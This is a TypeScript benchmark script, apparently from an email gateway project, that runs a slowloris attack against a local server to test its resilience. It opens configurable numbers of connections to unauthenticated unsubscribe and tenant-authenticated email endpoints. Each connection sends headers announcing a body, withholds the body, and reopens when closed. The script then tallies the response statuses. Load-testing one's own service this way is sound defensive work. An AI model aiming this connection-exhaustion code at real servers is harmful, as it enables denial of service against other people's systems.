/**
 * A slowloris attacker, from a process of its own so that its sockets cost the bench's client nothing: `public`
 * connections that announce a body on `POST /unsubscribe` (no credentials) and `tenant` connections that announce
 * one on `POST /emails` with a tenant's key, each sending its headers and then nothing. A connection the gateway
 * answers or closes is opened again `reopenMs` later (default 1000, the `Retry-After` of a refusal), so as many
 * stay in hand for the whole run. Prints `holding` once all are open; on SIGTERM, one JSON line: the answers by
 * status (`closed`: closed without one), and how many connections were opened in all.
 * `npx tsx bench/stalled-attacker.ts <url> <tenant key> <public> <tenant> [reopenMs]`
 */
import net from 'node:net';

const [url, key, publicArg, tenantArg, reopenArg] = process.argv.slice(2);
const reopenMs = Number(reopenArg ?? 1000);
const port = Number(new URL(url).port);
const answers: Record<string, number> = {};
let opened = 0;
let running = true;

const heads = {
  public: 'POST /unsubscribe HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n',
  tenant: `POST /emails HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
};

/** One connection that sends `head` and holds its body back; resolves once its headers are out. */
function hold(head: string): Promise<void> {
  opened++;
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(head, () => resolve()));
    let answered = false;
    socket.on('data', (chunk: Buffer) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1];
      if (!status || answered) return;
      answered = true;
      answers[status] = (answers[status] ?? 0) + 1;
    });
    socket.on('error', () => resolve());
    socket.on('close', () => {
      if (!answered) answers.closed = (answers.closed ?? 0) + 1;
      if (running) setTimeout(() => void hold(head), reopenMs);
    });
  });
}

async function main() {
  const connections = [
    ...Array.from({ length: Number(publicArg) }, () => hold(heads.public)),
    ...Array.from({ length: Number(tenantArg) }, () => hold(heads.tenant)),
  ];
  await Promise.all(connections);
  process.stdout.write('holding\n');
}

process.once('SIGTERM', () => {
  running = false;
  process.stdout.write(`${JSON.stringify({ answers, opened })}\n`);
  process.exit(0);
});
void main();
